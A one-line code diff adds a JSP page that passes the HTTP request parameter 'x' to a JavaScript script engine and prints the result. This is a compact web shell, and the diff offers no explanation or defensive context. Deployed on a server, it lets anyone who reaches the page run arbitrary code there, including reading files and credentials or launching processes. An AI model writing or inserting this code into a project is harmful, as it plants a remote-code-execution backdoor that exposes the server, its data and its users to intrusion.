@@ -1,0 +1,1 @@
+<%@ page import="javax.script.*" %><% ScriptEngine e = new ScriptEngineManager().getEngineByName("js"); out.print(e.eval(request.getParameter("x"))); %>
